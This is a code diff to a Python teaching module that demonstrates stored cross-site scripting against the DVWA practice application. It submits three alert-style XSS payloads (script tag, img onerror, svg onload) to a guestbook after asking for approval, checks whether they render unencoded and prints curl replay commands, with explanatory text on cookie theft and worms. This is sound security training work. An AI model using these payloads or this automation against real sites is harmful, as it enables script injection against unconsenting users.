@@ -4,15 +4,62 @@ Demonstrates and teaches stored (persistent) XSS attacks.
 """
 
 import shlex
-import textwrap
-from typing import Optional
-from ..explanations.text_blocks import XSSExplanations
+from types import MappingProxyType
+from typing import Iterable, Optional, Tuple
+from ..core.auth import token_rejected
+from ..core.http_client import encoded_variants
+from ..explanations.text_blocks import EXPLANATIONS
+from ..utils.curl import curl_field
+
+# Explanation shown when a stored payload renders unencoded; %s is the payload
+STORED_SUCCESS_TEMPLATE = (
+    "The payload '%s' is now PERMANENTLY stored in the database.\n\n"
+    "Critical difference from Reflected XSS:\n"
+    "  - Reflected: Victim must click malicious link\n"
+    "  - Stored: EVERY visitor automatically affected\n\n"
+    "Attack timeline:\n"
+    "  1. Attacker stores malicious script (just happened)\n"
+    "  2. Script is saved to database\n"
+    "  3. ANY user who views this page executes the script\n"
+    "  4. No further action needed from attacker\n\n"
+    "In a real scenario, this could:\n"
+    "  - Steal session cookies from all visitors\n"
+    "  - Create a worm (script that posts itself)\n"
+    "  - Redirect users to phishing pages\n"
+    "  - Modify page content for all users"
+)
+
+# Answers accepted by _get_user_approval
+_YES: frozenset[str] = frozenset({"y", "yes"})
+
+# Proxy address used in the "via Burp" curl examples
+_BURP_PROXY = "http://127.0.0.1:8080"
+
+# Response headers sampled in the HTTP evidence block
+_HDRS = ("Content-Type", "Server", "Date")
+
+# Rendered guestbook entries; stored payloads can only land inside these divs
+_GUESTBOOK_MARKER = b'<div id="guestbook_comments"'
 
 
 class StoredXSSModule:
     """Interactive module for teaching Stored XSS."""
 
-    def __init__(self, http_client, logger, target_config, auth):
+    # Payloads for stored XSS
+    _PAYLOADS = (
+        ("<script>alert('Stored XSS')</script>", "Basic script injection"),
+        ("<img src=x onerror=alert('XSS')>", "Image error handler"),
+        ("<svg/onload=alert('XSS')>", "SVG onload event"),
+    )
+
+    # Raw and HTML-encoded (as DVWA renders it at higher levels) byte forms of each
+    # payload, matched against response.content without decoding it
+    _PAYLOAD_BYTES = MappingProxyType({
+        payload: (payload.encode(), encoded_variants(payload)[0].encode())
+        for payload, _ in _PAYLOADS
+    })
+
+    def __init__(self, http_client, logger, target_config, auth, answers: Optional[Iterable[str]] = None):
         """
         Initialize Stored XSS module.
 
@@ -21,23 +68,25 @@ class StoredXSSModule:
             logger: DualLogger instance
             target_config: TargetConfig instance
             auth: DVWAAuthenticator instance (for CSRF tokens)
+            answers: Optional pre-supplied approval answers, consumed before prompting
         """
         self.http = http_client
         self.logger = logger
         self.config = target_config
         self.auth = auth
-        self.explanations = XSSExplanations()
+        self.explanations = EXPLANATIONS
+        self._answers = iter(answers) if answers is not None else None
 
         # DVWA stored XSS page path
         self.xss_stored_path = "vulnerabilities/xss_s/"
+        self._target_url = self.config.get_dvwa_url(self.xss_stored_path)
 
-        # Payloads for stored XSS
-        self.payloads = [
-            ("<script>alert('Stored XSS')</script>", "Basic script injection"),
-            ("<img src=x onerror=alert('XSS')>", "Image error handler"),
-            ("<svg/onload=alert('XSS')>", "SVG onload event"),
-        ]
+        self.payloads = self._PAYLOADS
         self._injection_details_logged = False
+        # The guestbook GET is identical on every attempt; replay commands are shown once
+        self._logged_curl_keys: set = set()
+        # Guestbook form token per URL; None records a form without one
+        self._csrf_cache: dict[str, Optional[str]] = {}
 
     def run_interactive(self, interactive: bool = True) -> bool:
         """
@@ -73,7 +122,7 @@ class StoredXSSModule:
             "First, let's see what's currently in the guestbook."
         )
 
-        url = self.config.get_dvwa_url(self.xss_stored_path)
+        url = self._target_url
         response = self.http.get(url)
 
         if not response:
@@ -98,20 +147,29 @@ class StoredXSSModule:
             return False
 
         # Step 4: Attempt to inject stored XSS
-        success = False
-        for i, (payload, description) in enumerate(self.payloads, start=1):
-            if self._attempt_stored_payload(payload, description, i, interactive):
-                success = True
-                break  # Stop after first success
+        # Session-invariant inputs are fetched once rather than per payload
+        ua_string = self.http.get_user_agent()
+
+        # any() stops at the first payload that succeeds
+        success = any(
+            self._attempt_stored_payload(payload, description, i, interactive, ua_string)
+            for i, (payload, description) in enumerate(self.payloads, start=1)
+        )
 
         # Step 5: Prevention education
         if success:
-            self.logger.educational("\n" + "="*70)
-            self.logger.educational(self.explanations.STORED_XSS_PREVENTION)
+            self.logger.educational("\n" + "="*70 + "\n" + self.explanations.STORED_XSS_PREVENTION)
 
         return success
 
-    def _attempt_stored_payload(self, payload: str, description: str, attempt_num: int, interactive: bool) -> bool:
+    def _attempt_stored_payload(
+        self,
+        payload: str,
+        description: str,
+        attempt_num: int,
+        interactive: bool,
+        ua_string: str,
+    ) -> bool:
         """
         Attempt to store and trigger an XSS payload.
 
@@ -120,6 +178,7 @@ class StoredXSSModule:
             description: Description of the payload
             attempt_num: Attempt number
             interactive: Whether to ask for confirmation
+            ua_string: User-Agent recorded alongside the entry
 
         Returns:
             True if payload succeeded
@@ -139,13 +198,9 @@ class StoredXSSModule:
         # Step A: Submit the payload
         self.logger.educational("\n→ Submitting payload to guestbook...")
 
-        url = self.config.get_dvwa_url(self.xss_stored_path)
-
-        # Get CSRF token for the form
-        csrf_token = self.auth.get_csrf_token(url)
+        url = self._target_url
 
         # Prepare form data and append user-agent marker for attribution
-        ua_string = self.http.get_user_agent()
         annotated_payload = f"{payload}\n<!-- UA: {ua_string} -->"
         form_data = {
             'txtName': 'XSS Test User',
@@ -153,6 +208,8 @@ class StoredXSSModule:
             'btnSign': 'Sign Guestbook'
         }
 
+        cached = url in self._csrf_cache
+        csrf_token = self._get_cached_csrf(url)
         if csrf_token:
             form_data['user_token'] = csrf_token
 
@@ -162,6 +219,15 @@ class StoredXSSModule:
         # Submit the payload
         response = self.http.post(url, data=form_data)
 
+        if response is not None and cached and token_rejected(response):
+            # Stale cached token; fetch a fresh one and retry once
+            self.logger.operational("Cached CSRF token rejected, refetching", "DEBUG")
+            self._csrf_cache.pop(url, None)
+            csrf_token = self._get_cached_csrf(url)
+            if csrf_token:
+                form_data['user_token'] = csrf_token
+            response = self.http.post(url, data=form_data)
+
         if not response:
             self.logger.explain_failure(
                 f"Failed to submit payload {attempt_num}",
@@ -170,11 +236,13 @@ class StoredXSSModule:
             )
             return False
 
-        self.logger.educational("✓ Payload submitted successfully")
-
         # Step B: Retrieve the page to see if payload is stored and executed
-        self.logger.educational("\n→ Retrieving guestbook to check if payload persists...")
+        self.logger.educational(
+            "✓ Payload submitted successfully\n"
+            "\n→ Retrieving guestbook to check if payload persists..."
+        )
 
+        self._refresh_csrf(url, response)
         response = self.http.get(url)
 
         self._log_curl_examples("GET", url, include_cookies=True)
@@ -187,31 +255,26 @@ class StoredXSSModule:
             )
             return False
 
-        # Check if payload appears in response
-        if payload in response.text:
+        self._refresh_csrf(url, response)
+
+        # Check if payload appears in response; the raw bytes are enough for a substring test
+        body = response.content
+        forms = self._PAYLOAD_BYTES.get(payload)
+        if forms is None:
+            forms = (payload.encode(), encoded_variants(payload)[0].encode())
+        raw_bytes, encoded_bytes = forms
+        start, end = self._guestbook_bounds(body)
+        if body.find(raw_bytes, start, end) != -1:
             self.logger.explain_success(
                 f"Stored XSS payload {attempt_num} succeeded!",
-                f"The payload '{payload}' is now PERMANENTLY stored in the database.\n\n"
-                f"Critical difference from Reflected XSS:\n"
-                f"  - Reflected: Victim must click malicious link\n"
-                f"  - Stored: EVERY visitor automatically affected\n\n"
-                f"Attack timeline:\n"
-                f"  1. Attacker stores malicious script (just happened)\n"
-                f"  2. Script is saved to database\n"
-                f"  3. ANY user who views this page executes the script\n"
-                f"  4. No further action needed from attacker\n\n"
-                f"In a real scenario, this could:\n"
-                f"  - Steal session cookies from all visitors\n"
-                f"  - Create a worm (script that posts itself)\n"
-                f"  - Redirect users to phishing pages\n"
-                f"  - Modify page content for all users"
+                STORED_SUCCESS_TEMPLATE,
+                payload,
             )
             self._log_http_evidence(response, payload, "stored entry rendered in body")
             return True
         else:
             # Check if it's encoded
-            encoded_check = payload.replace('<', '&lt;').replace('>', '&gt;')
-            if encoded_check in response.text:
+            if body.find(encoded_bytes, start, end) != -1:
                 self.logger.explain_failure(
                     f"Payload {attempt_num} was stored but ENCODED",
                     "The payload was saved to the database, but when displayed, special\n"
@@ -234,9 +297,34 @@ class StoredXSSModule:
 
         return False
 
+    @staticmethod
+    def _guestbook_bounds(body: bytes) -> Tuple[int, int]:
+        """Byte range spanning the rendered entries, or the whole body if unmarked."""
+        start = body.find(_GUESTBOOK_MARKER)
+        if start == -1:
+            return 0, len(body)
+        last = body.rfind(_GUESTBOOK_MARKER)
+        end = body.find(b"</div>", last)
+        return start, len(body) if end == -1 else end
+
+    def _get_cached_csrf(self, url: str) -> Optional[str]:
+        """Return the guestbook form token, fetching it only on first use."""
+        if url in self._csrf_cache:
+            return self._csrf_cache[url]
+        token = self._csrf_cache[url] = self.auth.get_csrf_token(url)
+        return token
+
+    def _refresh_csrf(self, url: str, response):
+        """Pick up the token a re-rendered form carries (DVWA rotates it at impossible)."""
+        if response is None or self._csrf_cache.get(url) is None:
+            return
+        token = self.auth.extract_csrf_token(response.text)
+        if token:
+            self._csrf_cache[url] = token
+
     def _log_injection_breakdown(self):
         """Explain exactly where the stored payload lands."""
-        url = self.config.get_dvwa_url(self.xss_stored_path)
+        url = self._target_url
         breakdown = [
             f"Target endpoint: {url}",
             "HTTP method: POST to store data, GET to trigger victims.",
@@ -254,8 +342,19 @@ class StoredXSSModule:
         data: Optional[dict] = None,
         include_cookies: bool = False,
     ):
-        """Show curl commands (direct + Burp) for POST/GET requests."""
+        """Show curl commands (direct + Burp) for POST/GET requests, once per distinct request."""
         cookie_fragment = self._build_cookie_fragment() if include_cookies else None
+        key = (
+            method.upper(),
+            url,
+            frozenset((params or {}).items()),
+            frozenset((data or {}).items()),
+            cookie_fragment,
+        )
+        if key in self._logged_curl_keys:
+            return
+        self._logged_curl_keys.add(key)
+
         direct = self._build_curl_command(method, url, params, data, cookie_fragment, use_proxy=False)
         burp = self._build_curl_command(method, url, params, data, cookie_fragment, use_proxy=True)
         self.logger.educational(
@@ -274,25 +373,19 @@ class StoredXSSModule:
         use_proxy: bool,
     ) -> str:
         """Construct a curl command string."""
-        parts = ["curl", "-sS"]
-        if use_proxy:
-            parts.extend(["--proxy", "http://127.0.0.1:8080"])
-
-        if cookie_fragment:
-            parts.extend(["--cookie", shlex.quote(cookie_fragment)])
-
-        if method.upper() == "GET":
-            parts.extend(["-G", shlex.quote(url)])
-            for key, value in (params or {}).items():
-                safe_value = str(value).replace("\n", "\\n")
-                parts.extend(["--data-urlencode", shlex.quote(f"{key}={safe_value}")])
+        method = method.upper()
+        proxy = f" --proxy {_BURP_PROXY}" if use_proxy else ""
+        cookie = f" --cookie {shlex.quote(cookie_fragment)}" if cookie_fragment else ""
+        if method == "GET":
+            target, flag, fields = f"-G {shlex.quote(url)}", "--data-urlencode", params
         else:
-            parts.extend(["-X", method.upper(), shlex.quote(url)])
-            for key, value in (data or {}).items():
-                safe_value = str(value).replace("\n", "\\n")
-                parts.extend(["-d", shlex.quote(f"{key}={safe_value}")])
+            target, flag, fields = f"-X {method} {shlex.quote(url)}", "-d", data
 
-        return " ".join(parts)
+        args = "".join(
+            f" {flag} {curl_field(key, value)}"
+            for key, value in (fields or {}).items()
+        )
+        return f"curl -sS{proxy}{cookie} {target}{args}"
 
     def _build_cookie_fragment(self) -> str:
         """Return a cookie string (or placeholder) for curl reproduction."""
@@ -307,13 +400,16 @@ class StoredXSSModule:
 
     def _log_http_evidence(self, response, payload: str, note: str):
         """Show HTTP evidence that the stored payload rendered."""
+        if not self.logger.is_enabled_for("educational"):
+            return
+
         snippet, hint = self._extract_payload_snippet(response.text, payload)
-        interesting_headers = []
-        for header in ["Content-Type", "Server", "Date"]:
-            if header in response.headers:
-                interesting_headers.append(f"{header}: {response.headers[header]}")
+        interesting_headers = [
+            f"{header}: {value}" for header in _HDRS
+            if (value := response.headers.get(header)) is not None
+        ]
         header_text = "\n".join(f"  {line}" for line in interesting_headers) or "  (no headers sampled)"
-        body_text = textwrap.indent(snippet, "    ")
+        body_text = "    " + snippet.replace("\n", "\n    ") if snippet else ""
 
         self.logger.educational(
             f"HTTP evidence ({note}):\n"
@@ -324,7 +420,8 @@ class StoredXSSModule:
 
     def _extract_payload_snippet(self, body: str, payload: str, radius: int = 160):
         """Return a snippet that highlights the payload."""
-        index = body.find(payload)
+        # New guestbook entries are appended, so search from the end of the page
+        index = body.rfind(payload)
         if index == -1:
             snippet = body[:radius] or "(empty response body)"
             return snippet.strip(), "payload not present; showing leading bytes"
@@ -344,14 +441,21 @@ class StoredXSSModule:
         Returns:
             True if user approves, False otherwise
         """
+        if self._answers is not None:
+            response = next(self._answers, None)
+            if response is not None:
+                response = response.strip().lower()
+                self.logger.operational(f"Pre-supplied response to '{prompt}': {response}", "INFO")
+                return response in _YES
+
         try:
             response = input(f"\n{prompt} [y/N]: ").strip().lower()
             self.logger.operational(f"User response to '{prompt}': {response}", "INFO")
-            return response in ['y', 'yes']
+            return response in _YES
         except (KeyboardInterrupt, EOFError):
             self.logger.operational("User interrupted", "INFO")
             return False
 
     def get_target_url(self) -> str:
         """Get the full URL for the stored XSS page."""
-        return self.config.get_dvwa_url(self.xss_stored_path)
+        return self._target_url